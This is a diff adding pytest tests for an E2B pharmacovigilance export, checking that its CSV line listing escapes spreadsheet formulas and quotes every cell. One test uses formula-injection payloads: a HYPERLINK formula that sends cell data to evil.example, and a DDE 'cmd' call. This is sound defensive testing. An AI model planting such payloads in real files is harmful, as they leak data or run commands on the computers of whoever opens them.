@@ -3,7 +3,10 @@
 MedDRA codes here are made up (8 digits); no MedDRA content is shipped.
 """
 
+import csv
+import io
 import xml.etree.ElementTree as ET
+import zipfile
 from dataclasses import replace
 from datetime import UTC, date, datetime, timedelta, timezone
 from pathlib import Path
@@ -414,3 +417,32 @@ def test_an_empty_batch_and_unknown_acknowledgement_codes_are_refused() -> None:
         e2b.read_ack(positive.replace(b'typeCode="CA"', b'typeCode="XX"'))
     with pytest.raises(E2BError):
         e2b.read_batch(positive)
+
+
+# --- the line listing ----------------------------------------------------------------------------
+
+def listed(*cases: Case) -> list[dict[str, str]]:
+    zipped = e2b.bundle(cases, ["received"] * len(cases), batch_id="B", sender_id="S",
+                        receiver_id="R", created_at=datetime(2024, 1, 1, tzinfo=UTC))
+    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
+        listing = archive.read("B-line-listing.csv").decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(listing)))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(start: str) -> None:
+    words = f'{start}HYPERLINK("http://evil.example/?"&A1, "rash, \'itchy\'")'
+    rash = replace(a_case().reactions[0], description=words)
+    medicine = replace(a_case().medicines[0], name=f"{start}cmd|' /C calc'!A0")
+    [row] = listed(a_case(reactions=(rash,), medicines=(medicine,), causality=()))
+    assert row["reactions"] == f"'{words}"  # the rest of the text intact
+    assert row["suspect_medicines"] == f"'{start}cmd|' /C calc'!A0"
+    assert row["reference"] == "000123"  # harmless cells as they were
+
+
+def test_every_cell_of_the_line_listing_is_quoted() -> None:
+    zipped = e2b.bundle([a_case()], ["received"], batch_id="B", sender_id="S",
+                        receiver_id="R", created_at=datetime(2024, 1, 1, tzinfo=UTC))
+    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
+        lines = archive.read("B-line-listing.csv").decode("utf-8-sig").splitlines()
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)
